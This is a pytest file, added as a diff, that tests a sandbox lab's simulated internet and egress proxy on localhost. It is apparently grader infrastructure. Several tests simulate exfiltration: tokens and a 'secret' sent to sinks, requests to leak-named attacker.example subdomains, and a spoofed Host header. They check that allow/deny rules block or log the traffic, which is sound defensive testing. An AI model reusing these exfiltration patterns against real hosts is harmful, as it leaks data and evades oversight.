@@ -1,0 +1,374 @@
+"""The services image's programs, run for real on 127.0.0.1: the simulated internet and the egress proxy.
+
+No Docker: ``internet.py`` and ``proxy.py`` start as subprocesses laid out flat
+beside ``domains.py`` and ``dnswire.py``, exactly as the image copies them, and
+the tests talk to them over sockets and read the JSONL evidence they write.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import ssl
+import subprocess
+import sys
+import time
+import uuid
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any, Callable, Iterator
+
+import pytest
+
+from grader.services import dnswire
+
+SERVICES = Path(__file__).resolve().parents[2] / "grader" / "services"
+HOSTS = [
+    "github.com", "gist.github.com", "api.github.com", "raw.githubusercontent.com",
+    "registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "upload.pypi.org",
+    "attacker.example",
+]  # fmt: skip
+LOCALHOST = "127.0.0.1"
+IP_LITERAL = "IP literal: the simulated internet is reached by name only"
+
+
+@dataclass(frozen=True)
+class Services:
+    internet_out: Path
+    proxy_out: Path
+    nonce: str
+    dns: int
+    http: int
+    https: int
+    tcp: int
+    proxy: int
+
+
+def _free_ports(count: int) -> list[int]:
+    """Ports free for both TCP and UDP, held open together so none is picked twice."""
+    held: list[socket.socket] = []
+    ports: list[int] = []
+    try:
+        while len(ports) < count:
+            tcp = socket.socket()
+            held.append(tcp)
+            tcp.bind((LOCALHOST, 0))
+            port = tcp.getsockname()[1]
+            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            held.append(udp)
+            try:
+                udp.bind((LOCALHOST, port))
+            except OSError:
+                continue
+            ports.append(port)
+    finally:
+        for sock in held:
+            sock.close()
+    return ports
+
+
+def _start(script: str, config: dict[str, Any], opt: Path, out_dir: Path) -> subprocess.Popen[bytes]:
+    config_path = opt.parent / f"{script}.json"
+    config_path.write_text(json.dumps(config))
+    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}  # the flat layout must suffice
+    with open(opt.parent / f"{script}.log", "wb") as output:
+        proc = subprocess.Popen(
+            [sys.executable, str(opt / script), str(config_path)],
+            cwd=opt, env=env, stdout=output, stderr=subprocess.STDOUT,
+        )  # fmt: skip
+    deadline = time.monotonic() + 10
+    while not (out_dir / "ready").exists():
+        if proc.poll() is not None or time.monotonic() > deadline:
+            proc.kill()
+            proc.wait()
+            pytest.fail(f"{script} did not start:\n{(opt.parent / f'{script}.log').read_text()}")
+        time.sleep(0.01)
+    return proc
+
+
+def _stop(proc: subprocess.Popen[bytes]) -> None:
+    proc.terminate()
+    try:
+        proc.wait(timeout=5)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        proc.wait()
+
+
+@pytest.fixture(scope="module")
+def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
+    root = tmp_path_factory.mktemp("services")
+    opt = root / "opt"  # stands in for /opt/sandbox-lab/ in the image
+    opt.mkdir()
+    for name in ("internet.py", "proxy.py", "dnswire.py"):
+        shutil.copy(SERVICES / name, opt / name)
+    shutil.copy(SERVICES.parent / "domains.py", opt / "domains.py")
+    dns, http, https, tcp, proxy_port = _free_ports(5)
+    world = Services(root / "internet", root / "proxy", uuid.uuid4().hex, dns, http, https, tcp, proxy_port)
+    procs: list[subprocess.Popen[bytes]] = []
+    try:
+        internet_config = {
+            "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "extra_names": ["host.docker.internal"],
+            "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
+            "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
+        }  # fmt: skip
+        procs.append(_start("internet.py", internet_config, opt, world.internet_out))
+        ready = json.loads((world.internet_out / "ready").read_text())
+        assert ready["address"] == LOCALHOST and ready["pid"] == procs[0].pid
+        proxy_config = {
+            # 127.0.0.1 is listed on purpose: IP literals are refused even when listed.
+            "allowed": ["registry.npmjs.org", "*.github.com", "127.0.0.1"], "denied": ["api.github.com"],
+            "listen_port": proxy_port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
+            "out_dir": str(world.proxy_out),
+        }  # fmt: skip
+        procs.append(_start("proxy.py", proxy_config, opt, world.proxy_out))
+        yield world
+    finally:
+        for proc in procs:
+            _stop(proc)
+
+
+def _records(path: Path) -> list[dict[str, Any]]:
+    if not path.exists():
+        return []
+    text = path.read_text(encoding="utf-8")
+    return [json.loads(line) for line in text.splitlines(keepends=True) if line.endswith("\n")]
+
+
+def _wait_for(path: Path, match: Callable[[dict[str, Any]], bool], timeout: float = 3.0) -> dict[str, Any]:
+    deadline = time.monotonic() + timeout
+    while True:
+        found = [r for r in _records(path) if match(r)]
+        if found:
+            return found[-1]
+        if time.monotonic() > deadline:
+            pytest.fail(f"no matching record in {path.name}: {_records(path)[-5:]}")
+        time.sleep(0.02)
+
+
+def _exchange(port: int, data: bytes) -> bytes:
+    """Send raw bytes, read until the server closes."""
+    with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
+        sock.sendall(data)
+        chunks = []
+        while chunk := sock.recv(65536):
+            chunks.append(chunk)
+    return b"".join(chunks)
+
+
+def _connect_through(services: Services, host: str, port: int) -> tuple[socket.socket, bytes]:
+    """Open a CONNECT tunnel; return the socket and the proxy's response head."""
+    sock = socket.create_connection((LOCALHOST, services.proxy), timeout=5)
+    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = sock.recv(1)
+        if not chunk:
+            break
+        head += chunk
+    return sock, head
+
+
+def _body_json(response: bytes) -> dict[str, Any]:
+    result: dict[str, Any] = json.loads(response.split(b"\r\n\r\n", 1)[1])
+    return result
+
+
+# --- dnswire, pure -----------------------------------------------------------------------
+
+
+def test_dnswire_round_trip() -> None:
+    query = dnswire.parse_query(dnswire.build_query(0x1234, "GitHub.com."))
+    assert query is not None and query.qname == "github.com" and query.qtype == dnswire.TYPE_A
+    answer = dnswire.parse_response(dnswire.build_response(query, addresses=["10.0.0.7"]))
+    assert (answer.id, answer.rcode, answer.addresses) == (0x1234, 0, ("10.0.0.7",))
+    nx = dnswire.parse_response(dnswire.build_response(query, dnswire.RCODE_NXDOMAIN))
+    assert (nx.rcode, nx.addresses) == (dnswire.RCODE_NXDOMAIN, ())
+
+
+@pytest.mark.parametrize(
+    "packet",
+    [
+        b"",
+        b"\x00" * 11,
+        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01",  # points at itself
+        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x20" + b"\x00" * 40,  # points forwards
+        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x3fabc",  # label past the end
+        b"\x12\x34\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01",  # a response
+        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x01a" * 200 + b"\x00\x00\x01\x00\x01",
+    ],
+    ids=["empty", "short-header", "pointer-loop", "forward-pointer", "truncated-label", "response", "too-long"],
+)
+def test_dnswire_rejects_malformed_queries(packet: bytes) -> None:
+    assert dnswire.parse_query(packet) is None
+
+
+# --- the simulated internet ----------------------------------------------------------------
+
+
+def test_dns_answers_world_hosts_and_wildcard_zones(services: Services) -> None:
+    known = ["github.com", "registry.npmjs.org", "host.docker.internal", "x1y2.attacker.example",
+             "a.b.c.attacker.example", "ATTACKER.example"]  # fmt: skip
+    for name in known:
+        assert dnswire.query_a(LOCALHOST, name, services.dns) == [LOCALHOST], name
+    for name in ["example.org", "evilattacker.example", "github.com.evil.org"]:
+        assert dnswire.query_a(LOCALHOST, name, services.dns) == [], name
+
+    logged = {(r["qname"], r["answered"]) for r in _records(services.internet_out / "dns.jsonl") if "qname" in r}
+    assert {(n.lower(), True) for n in known} <= logged
+    assert {("example.org", False), ("evilattacker.example", False)} <= logged
+
+
+def test_dns_answers_other_types_of_known_names_with_no_records(services: Services) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(2)
+        sock.sendto(dnswire.build_query(7, "github.com", dnswire.TYPE_AAAA), (LOCALHOST, services.dns))
+        answer = dnswire.parse_response(sock.recv(4096))
+    assert (answer.id, answer.rcode, answer.addresses) == (7, dnswire.RCODE_NOERROR, ())
+
+
+def test_malformed_dns_is_logged_and_does_not_kill_the_server(services: Services) -> None:
+    garbage = [b"\xff" * 40, b"\x00", b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01"]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        for packet in garbage:
+            sock.sendto(packet, (LOCALHOST, services.dns))
+    assert dnswire.query_a(LOCALHOST, "pypi.org", services.dns) == [LOCALHOST]
+    malformed = [r for r in _records(services.internet_out / "dns.jsonl") if r.get("malformed")]
+    assert len(malformed) >= len(garbage)
+    assert all(r["client"] == LOCALHOST and isinstance(r["t"], float) for r in malformed)
+
+
+def test_https_certificate_is_issued_by_the_run_ca_only(services: Services) -> None:
+    ca = services.internet_out / "ca.pem"
+    assert "PRIVATE" not in ca.read_text()
+    strict = ssl.create_default_context(cafile=str(ca))
+    strict.verify_flags |= ssl.VERIFY_X509_STRICT  # the default from Python 3.13 on
+    with socket.create_connection((LOCALHOST, services.https), timeout=5) as raw:
+        with strict.wrap_socket(raw, server_hostname="deadbeef.attacker.example") as tls:
+            tls.sendall(b"GET /w HTTP/1.1\r\n\r\n")  # no Host: the SNI names the host
+            assert _body_json(tls.recv(4096))["host"] == "deadbeef.attacker.example"
+    with socket.create_connection((LOCALHOST, services.https), timeout=5) as raw:
+        with pytest.raises(ssl.SSLCertVerificationError):
+            ssl.create_default_context().wrap_socket(raw, server_hostname="github.com")
+
+
+def test_raw_tcp_lands_in_the_sink(services: Services) -> None:
+    token = uuid.uuid4().hex
+    with socket.create_connection((LOCALHOST, services.tcp), timeout=5) as sock:
+        sock.sendall(f"exfil {token}".encode())
+        sock.shutdown(socket.SHUT_WR)
+        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
+    record = _wait_for(services.internet_out / "tcp.jsonl", lambda r: token in r["data"])
+    assert record["port"] == services.tcp and record["client"] == LOCALHOST
+
+
+# --- the proxy -------------------------------------------------------------------------------
+
+
+def test_http_post_through_the_proxy_lands_in_the_sink(services: Services) -> None:
+    token = uuid.uuid4().hex
+    body = f'{{"name": "pkg", "readme": "{token}"}}'.encode()
+    response = _exchange(
+        services.proxy,
+        f"POST http://registry.npmjs.org:{services.http}/-/publish/{token}?v=1 HTTP/1.1\r\n"
+        f"Host: attacker.example\r\nContent-Type: application/json\r\n"  # a lying Host header
+        f"Content-Length: {len(body)}\r\nProxy-Connection: keep-alive\r\n\r\n".encode() + body,
+    )
+    assert response.startswith(b"HTTP/1.1 200 ")
+    assert _body_json(response) == {"ok": True, "host": "registry.npmjs.org", "nonce": services.nonce}
+    record = _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["path"])
+    assert record["scheme"] == "http" and record["method"] == "POST"
+    # The proxy rewrote Host from the URL, so the sink saw the host the proxy judged.
+    assert record["host"] == "registry.npmjs.org"
+    assert record["path"] == f"/-/publish/{token}?v=1"
+    assert record["body"] == body.decode() and record["body_len"] == len(body)
+    decision = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["method"] == "POST")
+    assert decision["decision"] == "allow" and decision["host"] == "registry.npmjs.org"
+    assert decision["port"] == services.http
+
+
+def test_https_through_connect_verifies_and_lands_in_the_sink(services: Services) -> None:
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(services, "gist.github.com", services.https)
+    with sock:
+        assert head.startswith(b"HTTP/1.1 200")
+        context = ssl.create_default_context(cafile=str(services.internet_out / "ca.pem"))
+        with context.wrap_socket(sock, server_hostname="gist.github.com") as tls:
+            tls.sendall(f"PUT /gists/{token} HTTP/1.1\r\nHost: gist.github.com\r\n"
+                        "Content-Length: 6\r\n\r\nsecret".encode())  # fmt: skip
+            response = b""
+            while chunk := tls.recv(4096):
+                response += chunk
+    assert _body_json(response)["nonce"] == services.nonce
+    record = _wait_for(services.internet_out / "http.jsonl", lambda r: token in r["path"])
+    assert (record["scheme"], record["host"], record["method"], record["body"]) == (
+        "https", "gist.github.com", "PUT", "secret",
+    )  # fmt: skip
+
+
+def test_tunnel_carries_raw_tcp_and_half_close(services: Services) -> None:
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(services, "registry.npmjs.org", services.tcp)
+    with sock:
+        assert head.startswith(b"HTTP/1.1 200")
+        sock.sendall(token.encode())
+        sock.shutdown(socket.SHUT_WR)  # the sink answers once the client has finished
+        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
+    _wait_for(services.internet_out / "tcp.jsonl", lambda r: r["data"] == token)
+
+
+def test_denied_host_gets_403_and_is_never_resolved(services: Services) -> None:
+    host = f"leak-{uuid.uuid4().hex[:12]}.attacker.example"
+    sock, head = _connect_through(services, host, services.https)
+    sock.close()
+    assert head.startswith(b"HTTP/1.1 403")
+    response = _exchange(services.proxy, f"GET http://{host}:{services.http}/?d=c4n4ry HTTP/1.1\r\n\r\n".encode())
+    assert response.startswith(b"HTTP/1.1 403")
+    assert f"blocked by sandbox policy: {host}".encode() in response
+    denials = [r for r in _records(services.proxy_out / "proxy.jsonl") if r["host"] == host]
+    assert [(r["method"], r["decision"]) for r in denials] == [("CONNECT", "deny"), ("GET", "deny")]
+    assert denials[0]["reason"] == "not in the allowed list"
+    assert (denials[0]["path"], denials[1]["path"]) == (None, "/?d=c4n4ry")
+    # Decided before resolving: the run's DNS server never heard the name.
+    assert all(r.get("qname") != host for r in _records(services.internet_out / "dns.jsonl"))
+
+
+def test_wildcard_allows_subdomains_but_not_the_bare_domain(services: Services) -> None:
+    gist = _exchange(services.proxy, f"GET http://gist.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
+    bare = _exchange(services.proxy, f"GET http://github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
+    assert gist.startswith(b"HTTP/1.1 200") and _body_json(gist)["host"] == "gist.github.com"
+    assert bare.startswith(b"HTTP/1.1 403")
+
+
+def test_denied_entry_wins_over_a_matching_wildcard(services: Services) -> None:
+    response = _exchange(services.proxy, f"GET http://API.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
+    assert response.startswith(b"HTTP/1.1 403")
+    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "api.github.com")
+    assert (record["decision"], record["reason"]) == ("deny", 'matches denied entry "api.github.com"')
+
+
+def test_ip_literal_is_refused_even_when_listed(services: Services) -> None:
+    sock, head = _connect_through(services, LOCALHOST, services.http)
+    sock.close()
+    assert head.startswith(b"HTTP/1.1 403")
+    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == LOCALHOST)
+    assert (record["decision"], record["reason"], record["port"]) == ("deny", IP_LITERAL, services.http)
+
+
+def test_invalid_and_non_proxy_requests_get_400(services: Services) -> None:
+    bad_host = _exchange(services.proxy, b"CONNECT bad_host!:443 HTTP/1.1\r\n\r\n")
+    origin_form = _exchange(services.proxy, b"GET /index.html HTTP/1.1\r\nHost: github.com\r\n\r\n")
+    assert bad_host.startswith(b"HTTP/1.1 400") and origin_form.startswith(b"HTTP/1.1 400")
+    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "bad_host!")
+    assert (record["decision"], record["reason"]) == ("deny", "invalid host")
+
+
+def test_allowed_host_missing_from_the_world_gets_502(services: Services) -> None:
+    response = _exchange(services.proxy, f"GET http://nope.github.com:{services.http}/ HTTP/1.1\r\n\r\n".encode())
+    assert response.startswith(b"HTTP/1.1 502")
+    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "nope.github.com")
+    assert record["decision"] == "allow" and "NXDOMAIN" in record["reason"]
+    # The lookup went to the run's DNS server, not the host's resolver.
+    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == "nope.github.com")
